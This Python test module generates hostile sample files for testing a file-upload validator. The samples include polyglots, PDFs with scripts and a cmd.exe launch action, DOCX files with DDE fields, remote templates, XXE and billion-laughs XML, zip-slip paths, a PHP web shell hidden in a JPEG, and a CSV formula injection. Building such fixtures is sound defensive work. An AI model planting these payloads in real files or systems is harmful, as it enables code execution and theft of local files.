"""Hostile files, made at run time: (what it is, its name, its bytes)."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.referrals.files import making as m

Sample = tuple[str, str, bytes]
HTML = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
PROGRAM = b"MZ" + b"\0" * 62 + b"PE\0\0" + b"\0" * 200
ENDINGS = {"pdf": m.pdf, "png": lambda: m.picture("PNG"), "jpg": lambda: m.picture("JPEG"),
           "tif": m.tiff, "docx": m.docx}  # fmt: skip


def hostile() -> list[Sample]:
    found = [
        *wrong_endings(), *not_what_it_says(), *polyglots(), *active_pdfs(), *broken_pdfs(),
        *pictures(), *archives(), *word_files(), *broken(),
    ]  # fmt: skip
    names = [name for name, _, _ in found]
    assert len(set(names)) == len(names)
    return found


def wrong_endings() -> Iterator[Sample]:
    others = {
        "svg": SVG, "html": HTML, "xhtml": HTML, "mht": b"MIME-Version: 1.0\r\n\r\n" + HTML,
        "exe": PROGRAM, "js": b"alert(1)", "zip": m.zipped(("a.txt", b"a")), "txt": m.eicar(),
        "csv": b"=cmd|' /C calc'!A0", "rtf": b"{\\rtf1 a}", "doc": OLE, "docm": m.docx(),
        "gif": m.picture("GIF"), "bmp": m.picture("BMP"), "webp": m.picture("WEBP"),
        "com": m.eicar(), "pdf.exe": PROGRAM, "": m.pdf(),
    }  # fmt: skip
    for ending, data in others.items():
        yield f"ending .{ending}", f"letter.{ending}" if ending else "letter", data


def not_what_it_says() -> Iterator[Sample]:
    """Each kind under each other kind's ending, and foreign kinds under all of ours."""
    for ending in ENDINGS:
        for real, make in ENDINGS.items():
            if real != ending:
                yield f"{real} called {ending}", f"letter.{ending}", make()
    foreign = {
        "program": PROGRAM,
        "page": HTML,
        "drawing": SVG,
        "ole": OLE,
        "test virus": m.eicar(),
    }
    for label, data in foreign.items():
        for ending in ENDINGS:
            yield f"{label} called {ending}", f"letter.{ending}", data


def polyglots() -> Iterator[Sample]:
    archive = m.zipped(("evil.js", b"alert(1)"))
    png, jpeg, pdf = m.picture("PNG"), m.picture("JPEG"), m.pdf()
    yield "pdf + zip", "a.pdf", pdf + archive
    yield "pdf + html", "a.pdf", pdf + HTML
    yield "html in the head of a pdf", "a.pdf", pdf.replace(b"\n", b"\n%" + HTML + b"\n", 1)
    yield "pdf at byte 1000", "a.pdf", b" " * 1000 + pdf
    yield "program + pdf", "a.pdf", PROGRAM + pdf
    yield "gif + script + pdf", "a.pdf", b"GIF89a/*" + pdf
    yield "png + html", "a.png", png + HTML
    yield "png + zip", "a.png", png + archive
    yield "png + pdf", "a.png", png + pdf
    yield "script in a png's text", "a.png", m.png_notes(Comment=HTML.decode())
    yield (
        "packed script in a png's text",
        "a.png",
        m.png_with(m.chunk(b"zTXt", b"Comment\0\0" + zlib.compress(HTML))),
    )
    yield (
        "script in a png's iTXt",
        "a.png",
        m.png_with(m.chunk(b"iTXt", b"Comment\0\x01\0\0\0" + zlib.compress(HTML))),
    )
    yield "jpeg + zip", "a.jpg", jpeg + archive
    yield "jpeg + html", "a.jpg", jpeg + HTML
    yield "jpeg + pdf", "a.jpg", jpeg + pdf
    yield "jpeg + program", "a.jpg", jpeg + PROGRAM
    yield "php in a jpeg's comment", "a.jpg", m.jpeg_with(b"<?php system($_GET[0]); ?>")
    yield "script in a jpeg's exif", "a.jpg", m.jpeg_with(b"Exif\0\0" + HTML, 0xE1)
    yield "tiff + zip", "a.tif", m.tiff() + archive
    yield "script in a tiff's description", "a.tif", m.tiff(tiffinfo={270: HTML.decode()})
    yield "docx + html", "a.docx", m.docx() + HTML
    yield "html + docx", "a.docx", HTML + m.docx()
    yield "docx with a comment", "a.docx", _commented()
    yield "png + docx", "a.docx", png + m.docx()


def _commented() -> bytes:
    good = bytearray(m.docx())
    good[-2:] = struct.pack("<H", len(HTML))
    return bytes(good) + HTML


def active_pdfs() -> Iterator[Sample]:
    script = {"S": "/JavaScript", "JS": "app.alert(1)"}
    yield "pdf script at opening", "a.pdf", m.pdf_root("/OpenAction", script)
    yield "pdf launch", "a.pdf", m.pdf_root("/OpenAction", {"S": "/Launch", "F": "cmd.exe"})
    yield (
        "pdf script by name",
        "a.pdf",
        m.pdf_root("/Names", {"JavaScript": {"Names": ["a", script]}}),
    )
    yield "pdf more actions", "a.pdf", m.pdf_root("/AA", {"WC": script})
    yield "pdf attachment", "a.pdf", m.pdf_root("/Names", {"EmbeddedFiles": {"Names": []}})
    yield "pdf form of its own", "a.pdf", m.pdf_root("/AcroForm", {"XFA": "<x/>", "Fields": []})
    yield "pdf collection", "a.pdf", m.pdf_root("/Collection", {"View": "/D"})
    for action in ("SubmitForm", "ImportData", "GoToR", "GoToE", "Rendition", "Movie", "Sound"):
        yield (
            f"pdf {action}",
            "a.pdf",
            m.pdf_annotation(
                Type="/Annot", Subtype="/Link", A={"S": f"/{action}", "F": "http://a.example/"}
            ),
        )
    for kind in ("FileAttachment", "RichMedia", "Screen", "3D"):
        yield f"pdf annotation {kind}", "a.pdf", m.pdf_annotation(Type="/Annot", Subtype=f"/{kind}")
    yield (
        "pdf link to a script",
        "a.pdf",
        m.pdf_annotation(
            Type="/Annot", Subtype="/Link", A={"S": "/URI", "URI": "javascript:alert(1)"}
        ),
    )
    yield (
        "pdf link to a file",
        "a.pdf",
        m.pdf_annotation(
            Type="/Annot", Subtype="/Link", A={"S": "/URI", "URI": "file:///etc/passwd"}
        ),
    )
    yield "pdf script deep in a list", "a.pdf", m.pdf_root("/Deep", [[[[script]]]])
    yield (
        "pdf script in an object stream",
        "a.pdf",
        m.pdf_with(
            lambda made: made.Root.__setitem__("/X", made.make_indirect(m._pdf(script))),
            object_stream_mode=m.pikepdf.ObjectStreamMode.generate,
        ),
    )
    yield "pdf with a password", "a.pdf", m.pdf_protected(owner="a", user="b")
    yield "pdf with an owner's password", "a.pdf", m.pdf_protected(owner="a", user="")


def broken_pdfs() -> Iterator[Sample]:
    good = m.pdf()
    yield "pdf cut short", "a.pdf", good[: len(good) // 2]
    yield "pdf without its table", "a.pdf", good.replace(b"startxref", b"startnothing")
    yield "pdf without pages", "a.pdf", m.pdf_with(pages=0)
    yield "pdf with 501 pages", "a.pdf", m.pdf(501)
    yield "pdf of nothing", "a.pdf", b"%PDF-1.7\n%%EOF\n"
    yield "pdf with a huge picture", "a.pdf", m.pdf_with(_huge_picture)
    yield "pdf whose stream is elsewhere", "a.pdf", m.pdf_with(_outside_stream)


def _huge_picture(made: m.pikepdf.Pdf) -> None:
    stream = m.pikepdf.Stream(made, b"\0")
    stream["/Type"], stream["/Subtype"] = m.pikepdf.Name("/XObject"), m.pikepdf.Name("/Image")
    stream["/Width"], stream["/Height"] = 65535, 65535
    made.Root["/Picture"] = made.make_indirect(stream)


def _outside_stream(made: m.pikepdf.Pdf) -> None:
    stream = m.pikepdf.Stream(made, b"\0")
    stream["/F"] = m.pikepdf.String("/etc/passwd")
    made.Root["/Outside"] = made.make_indirect(stream)


def pictures() -> Iterator[Sample]:
    yield "png of 65535 squared", "a.png", m.png_of(65535, 65535)
    yield "png of 20000 squared", "a.png", m.png_of(20000, 20000)
    yield "png of no width", "a.png", m.png_of(0, 10)
    yield "png with a long side", "a.png", m.png_of(2_000_000, 1)
    yield "moving png", "a.png", m.png_with(m.chunk(b"acTL", struct.pack(">II", 9, 0)))
    yield (
        "png with a note that swells",
        "a.png",
        m.png_with(m.chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"\0" * 3_000_000))),
    )
    yield (
        "png with a profile that swells",
        "a.png",
        m.png_with(m.chunk(b"iCCP", b"p\0\0" + zlib.compress(b"\0" * 9_000_000))),
    )
    yield (
        "png with a wrong checksum",
        "a.png",
        m.picture("PNG").replace(b"IDAT", b"IDAT", 1)[:-1] + b"\0",
    )
    yield "png without an end", "a.png", m.picture("PNG")[:-12]
    yield "png without a picture", "a.png", b"\x89PNG\r\n\x1a\n" + m.chunk(b"IEND", b"")
    yield "jpeg of 65535 squared", "a.jpg", m.jpeg_of(65535, 65535)
    yield "jpeg of no height", "a.jpg", m.jpeg_of(10, 0)
    yield "jpeg cut short", "a.jpg", m.picture("JPEG", size=(200, 200))[:400]
    yield "jpeg without a frame", "a.jpg", b"\xff\xd8\xff\xda\0\x02\xff\xd9"
    yield "jpeg with a segment of no length", "a.jpg", b"\xff\xd8\xff\xe0\0\0" + b"\0" * 40
    yield (
        "tiff of 65535 squared",
        "a.tif",
        m.tiff_raw(m.tiff_row(256, 4, 1, 65535), m.tiff_row(257, 4, 1, 65535)),
    )
    yield "tiff with 101 pages", "a.tif", m.tiff(*[(8, 8)] * 101)
    yield (
        "tiff in a circle",
        "a.tif",
        m.tiff_raw(m.tiff_row(256, 4, 1, 8), m.tiff_row(257, 4, 1, 8), following=8),
    )
    yield "tiff without measures", "a.tif", m.tiff_raw(m.tiff_row(259, 3, 1, 1))
    yield (
        "tiff with sub-pages",
        "a.tif",
        m.tiff_raw(m.tiff_row(256, 4, 1, 8), m.tiff_row(257, 4, 1, 8), m.tiff_row(330, 4, 1, 8)),
    )
    yield "tiff with 60000 tags", "a.tif", b"II*\0\x08\0\0\0" + struct.pack("<H", 60000)
    yield "tiff that points nowhere", "a.tif", b"II*\0\xff\xff\xff\x7f"
    yield "big tiff", "a.tif", b"II+\0\x08\0\0\0\0\0\0\0\0\0\0\0"


def archives() -> Iterator[Sample]:
    zeros = b"\0" * 4_000_000
    yield "zip called docx", "a.docx", m.zipped(("a.txt", b"a"))
    yield "docx that swells a thousandfold", "a.docx", m.docx({"word/media/a.png": zeros})
    yield (
        "docx whose sum swells",
        "a.docx",
        m.docx({f"word/media/{n}.png": b"\0" * 1_000_000 for n in range(20)}),
    )
    yield "docx that lies of its size", "a.docx", m.raw_docx(b"word/media/a.png", zeros, claim=10)
    yield "docx that claims too much", "a.docx", m.raw_docx(b"word/media/a.png", b"a", claim=10**9)
    yield "docx with overlapping entries", "a.docx", m.overlapping(20)
    yield (
        "docx with 1001 entries",
        "a.docx",
        m.docx({f"word/media/{n}.png": b"" for n in range(1001)}),
    )
    yield "docx with a locked entry", "a.docx", m.raw_docx(b"word/media/a.png", b"a", flags=1)
    for label, name in {
        "above": b"../../etc/cron.d/a.xml", "from the root": b"/etc/a.xml",
        "with backslashes": b"..\\..\\a.xml", "with a drive": b"C:/a.xml", "with NUL": b"a\0b.xml",
    }.items():  # fmt: skip
        yield f"docx entry {label}", "a.docx", m.raw_docx(name, b"<a/>")
    link = zipfile.ZipInfo("word/media/a.png")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    yield "docx with a symbolic link", "a.docx", _with_entry(link, b"/etc/passwd")
    yield "docx with the same entry twice", "a.docx", m.raw_docx(b"WORD/document.xml", b"<a/>")
    yield "docx in a docx", "a.docx", m.docx({"word/media/a.png": m.docx()})
    yield "docx with a zip within", "a.docx", m.docx({"word/a.zip": m.zipped(("a", b"a"))})


def _with_entry(info: zipfile.ZipInfo, data: bytes) -> bytes:
    out = io.BytesIO(m.docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(info, data)
    return out.getvalue()


def word_files() -> Iterator[Sample]:
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield "docx with macros by type", "a.docx", m.docx(types=m.content_types(macro))
    yield (
        "docx that is a template",
        "a.docx",
        m.docx(types=m.content_types(m.MAIN_TYPE.replace("document.main", "template.main"))),
    )
    yield "docx with a macro part", "a.docx", m.docx({"word/vbaProject.bin": OLE})
    yield "docx with an OLE object", "a.docx", m.docx({"word/embeddings/oleObject1.bin": OLE})
    yield "docx with an embedded sheet", "a.docx", m.docx({"word/embeddings/a.xlsx": m.docx()})
    yield "docx with a program called png", "a.docx", m.docx({"word/media/a.png": PROGRAM})
    yield "docx with a page within", "a.docx", m.docx({"word/a.html": HTML})
    yield "docx with a script", "a.docx", m.docx({"word/a.js": b"alert(1)"})
    yield "docx with a drawing that acts", "a.docx", m.docx({"word/media/a.svg": SVG})
    for kind in ("attachedTemplate", "oleObject", "frame", "subDocument", "image"):
        target = "http://a.example/x"
        yield (
            f"docx with {kind} from elsewhere",
            "a.docx",
            m.docx(links=m.relations(m.relation(kind, target, external=True))),
        )
    for kind in ("aFChunk", "control", "vbaProject", "package"):
        yield (
            f"docx with a part of kind {kind}",
            "a.docx",
            m.docx(links=m.relations(m.relation(kind, "a.xml"))),
        )
    for target in ("file://///a.example/share", "javascript:alert(1)", "\\\\a.example\\share"):
        yield (
            f"docx with a link to {target[:6]}",
            "a.docx",
            m.docx(links=m.relations(m.relation("hyperlink", target, external=True))),
        )
    for code in ("DDEAUTO c:\\cmd.exe", "DDE cmd", 'INCLUDETEXT "http://a.example"'):
        run = f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>"
        yield f"docx with the field {code.split()[0]}", "a.docx", m.docx(document=m.body(run))
    split = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in ("DD", "EAU", "TO x"))
    yield "docx with a field in pieces", "a.docx", m.docx(document=m.body(f"<w:p>{split}</w:p>"))
    simple = '<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>'
    yield "docx with a simple field", "a.docx", m.docx(document=m.body(simple))
    yield (
        "docx with an entity",
        "a.docx",
        m.docx(document='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    )
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 9}">' for n in range(1, 9))
    yield (
        "docx with a billion laughs",
        "a.docx",
        m.docx(document=f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]><a>&l8;</a>'),
    )
    yield "docx with deep XML", "a.docx", m.docx(document="<a>" * 5000 + "</a>" * 5000)
    yield "docx that is no XML", "a.docx", m.docx(document="<a>")
    yield "docx without its main part", "a.docx", m.docx(document=None)
    yield "docx without its types", "a.docx", m.docx(types=None)


def broken() -> Iterator[Sample]:
    for ending, make in ENDINGS.items():
        yield f"empty {ending}", f"a.{ending}", b""
        yield f"the first bytes of a {ending}", f"a.{ending}", make()[:20]
        yield f"{ending} beyond the size", f"a.{ending}", make() + b"\0" * (15 * 1024 * 1024)
